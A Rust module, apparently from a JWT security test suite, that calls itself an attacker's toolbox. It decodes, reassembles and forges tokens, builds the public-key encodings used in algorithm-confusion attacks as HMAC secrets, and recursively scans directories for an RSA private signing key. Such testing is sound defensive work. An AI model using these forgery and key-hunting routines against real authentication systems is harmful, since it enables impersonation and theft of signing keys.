//! Taking tokens apart and forging hostile ones: the attacker's toolbox, not a verifier.

use std::path::Path;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::Value;

/// base64url without padding, as JWS uses it.
pub fn b64(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

/// Decodes base64url (padding tolerated).
pub fn unb64(text: &str) -> Vec<u8> {
    URL_SAFE_NO_PAD
        .decode(text.trim_end_matches('='))
        .unwrap_or_else(|e| panic!("not base64url ({e}): {text:?}"))
}

/// The three parts of a compact JWS.
pub fn parts(token: &str) -> (String, String, String) {
    let mut it = token.splitn(3, '.');
    let (h, p, s) = (it.next(), it.next(), it.next());
    match (h, p, s) {
        (Some(h), Some(p), Some(s)) => (h.to_owned(), p.to_owned(), s.to_owned()),
        _ => panic!("not a compact JWS: {token:?}"),
    }
}

/// The decoded header of `token`.
pub fn header(token: &str) -> Value {
    serde_json::from_slice(&unb64(&parts(token).0)).expect("JWS header is JSON")
}

/// The decoded payload of `token`.
pub fn payload(token: &str) -> Value {
    serde_json::from_slice(&unb64(&parts(token).1)).expect("JWS payload is JSON")
}

/// `header.payload.signature` from JSON parts and the raw signature part.
pub fn assemble(header: &Value, payload: &Value, signature: &str) -> String {
    format!(
        "{}.{}.{signature}",
        b64(header.to_string().as_bytes()),
        b64(payload.to_string().as_bytes())
    )
}

/// `token` with its header replaced, payload and signature kept.
pub fn with_header(token: &str, header: &Value) -> String {
    let (_, p, s) = parts(token);
    format!("{}.{p}.{s}", b64(header.to_string().as_bytes()))
}

/// `token` with its payload replaced, header and signature kept.
pub fn with_payload(token: &str, payload: &Value) -> String {
    let (h, _, s) = parts(token);
    format!("{h}.{}.{s}", b64(payload.to_string().as_bytes()))
}

/// HS256 over `header` (its `alg` forced to HS256) and `payload` with `secret`.
pub fn sign_hs256(header: &Value, payload: &Value, secret: &[u8]) -> String {
    let mut h = jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256);
    h.kid = header.get("kid").and_then(Value::as_str).map(str::to_owned);
    h.typ = Some("JWT".to_owned());
    jsonwebtoken::encode(&h, payload, &jsonwebtoken::EncodingKey::from_secret(secret))
        .expect("HS256 signing")
}

/// RS256 over `payload` with a PEM private key, `kid` in the header only when given.
pub fn sign_rs256(pem: &[u8], kid: Option<&str>, payload: &Value) -> Option<String> {
    let key = jsonwebtoken::EncodingKey::from_rsa_pem(pem).ok()?;
    let mut h = jsonwebtoken::Header::new(jsonwebtoken::Algorithm::RS256);
    h.kid = kid.map(str::to_owned);
    jsonwebtoken::encode(&h, payload, &key).ok()
}

/// The first PEM RSA private key found under `dir` (the issuer's signing key, if stored as PEM).
pub fn find_private_key_pem(dir: &Path) -> Option<Vec<u8>> {
    let entries = std::fs::read_dir(dir).ok()?;
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() {
            if let Some(found) = find_private_key_pem(&path) {
                return Some(found);
            }
        } else if let Ok(bytes) = std::fs::read(&path) {
            let text = String::from_utf8_lossy(&bytes);
            if text.contains("PRIVATE KEY-----")
                && jsonwebtoken::EncodingKey::from_rsa_pem(&bytes).is_ok()
            {
                return Some(bytes);
            }
        }
    }
    None
}

/// The public-key material an algorithm-confusion attacker would try as an HMAC secret:
/// the modulus bytes, the SubjectPublicKeyInfo PEM, the PKCS#1 PEM, and the JWK's JSON text.
pub fn confusion_secrets(jwk: &Value) -> Vec<(&'static str, Vec<u8>)> {
    let n = unb64(jwk["n"].as_str().expect("JWK has n"));
    let e = unb64(jwk["e"].as_str().expect("JWK has e"));
    let pkcs1 = der_sequence(&[der_uint(&n), der_uint(&e)].concat());
    // AlgorithmIdentifier { rsaEncryption, NULL }
    let alg_id = der_sequence(
        &[
            vec![
                0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01,
            ],
            vec![0x05, 0x00],
        ]
        .concat(),
    );
    let bit_string = der_tlv(0x03, &[&[0u8][..], &pkcs1].concat());
    let spki = der_sequence(&[alg_id, bit_string].concat());
    vec![
        ("modulus bytes", n),
        ("SPKI PEM", pem("PUBLIC KEY", &spki).into_bytes()),
        ("PKCS#1 PEM", pem("RSA PUBLIC KEY", &pkcs1).into_bytes()),
        ("JWK JSON", jwk.to_string().into_bytes()),
    ]
}

fn pem(label: &str, der: &[u8]) -> String {
    let body = STANDARD.encode(der);
    let mut out = format!("-----BEGIN {label}-----\n");
    for line in body.as_bytes().chunks(64) {
        out.push_str(std::str::from_utf8(line).expect("base64 is ASCII"));
        out.push('\n');
    }
    out.push_str(&format!("-----END {label}-----\n"));
    out
}

fn der_tlv(tag: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    let len = content.len();
    if len < 0x80 {
        out.push(len as u8);
    } else {
        let bytes: Vec<u8> = len
            .to_be_bytes()
            .into_iter()
            .skip_while(|b| *b == 0)
            .collect();
        out.push(0x80 | bytes.len() as u8);
        out.extend(bytes);
    }
    out.extend_from_slice(content);
    out
}

fn der_sequence(content: &[u8]) -> Vec<u8> {
    der_tlv(0x30, content)
}

fn der_uint(bytes: &[u8]) -> Vec<u8> {
    let trimmed: Vec<u8> = bytes.iter().copied().skip_while(|b| *b == 0).collect();
    let mut content = Vec::with_capacity(trimmed.len() + 1);
    if trimmed.first().is_none_or(|b| b & 0x80 != 0) {
        content.push(0);
    }
    content.extend(trimmed);
    der_tlv(0x02, &content)
}
